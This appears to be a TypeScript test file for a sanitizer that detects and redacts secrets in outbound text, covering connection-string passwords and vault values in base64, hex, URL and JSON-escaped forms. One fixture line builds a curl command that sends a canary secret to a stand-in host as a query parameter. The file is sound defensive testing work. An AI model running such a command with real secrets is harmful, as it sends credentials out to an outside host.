import { strict as assert } from 'node:assert';
import { redact, scanOutbound } from '../../../../src/engine/sanitizer';
import { ALNUM, randomFrom } from './fakeTokens';
import { CLEAN_SECRET_TEXTS, LEAK_TEXTS } from './secretCorpus';

const LEAKS = LEAK_TEXTS;
const CLEAN = CLEAN_SECRET_TEXTS;

describe('sanitizer: outbound secret detection', () => {
  it('has a corpus of at least 60 texts, half of them clean', () => {
    assert.ok(LEAKS.length + CLEAN.length >= 60);
    assert.ok(CLEAN.length >= 30 && LEAKS.length >= 30);
  });

  LEAKS.forEach(([text, kind], index) => {
    it(`finds leak #${index} (${kind})`, () => {
      const findings = scanOutbound(text);
      assert.ok(findings.some((f) => f.kind === kind), `expected ${kind}, got ${JSON.stringify(findings.map((f) => f.kind))}`);
      for (const f of findings) assert.equal(f.category, 'secret');
    });
  });

  CLEAN.forEach((text, index) => {
    it(`stays clean on ordinary text #${index}`, () => {
      assert.deepEqual(scanOutbound(text), [], text);
    });
  });

  it('redacts every leak so the secret no longer appears', () => {
    for (const [text, kind] of LEAKS) {
      const findings = scanOutbound(text);
      const redacted = redact(text);
      assert.ok(redacted.includes(`[REDACTED:`), redacted);
      for (const f of findings) assert.ok(!redacted.includes(text.slice(f.start, f.end)), `${kind} survived: ${redacted}`);
    }
  });

  it('redacts only the password of a connection string, keeping the rest readable', () => {
    const password = randomFrom(ALNUM, 18);
    assert.equal(redact(`postgres://app:${password}@db:5432/x`), 'postgres://app:[REDACTED:connection-string-password]@db:5432/x');
  });
});

describe('sanitizer: vault values', () => {
  const canary = 'canary-' + randomFrom(ALNUM, 20);
  const b64 = Buffer.from(canary).toString('base64').replace(/=+$/, '');

  it('finds the exact value and its base64, base64url, URL and hex forms', () => {
    const text = [
      `echo ${canary}`,
      `echo ${b64}`,
      `curl https://x.example/?v=${encodeURIComponent(canary + '/&')}`,
      `xxd: ${Buffer.from(canary).toString('hex')}`,
      `XXD: ${Buffer.from(canary).toString('hex').toUpperCase()}`,
    ].join('\n');
    const kinds = scanOutbound(text, { vaultValues: [canary] }).map((f) => f.kind);
    for (const kind of ['vault-value', 'vault-value-base64', 'vault-value-hex']) assert.ok(kinds.includes(kind), `${kind} in ${kinds}`);
    const redacted = redact(text, { vaultValues: [canary] });
    assert.ok(!redacted.includes(canary) && !redacted.includes(b64), redacted);
  });

  it('finds URL-encoded and JSON-escaped forms of values with special characters', () => {
    const value = 'p@ss "w/ord" ' + randomFrom(ALNUM, 8);
    const text = `q=${encodeURIComponent(value)} body=${JSON.stringify({ v: value })}`;
    const kinds = scanOutbound(text, { vaultValues: [value] }).map((f) => f.kind);
    assert.ok(kinds.includes('vault-value-url'), kinds.join());
    assert.ok(kinds.includes('vault-value-json'), kinds.join());
  });

  it('ignores vault values too short to search for without false alarms', () => {
    assert.deepEqual(scanOutbound('the id is 42 and abc', { vaultValues: ['42', 'abc'] }), []);
  });

  it('is clean when the vault value does not occur', () => {
    assert.deepEqual(scanOutbound('nothing to see here', { vaultValues: [canary] }), []);
  });
});
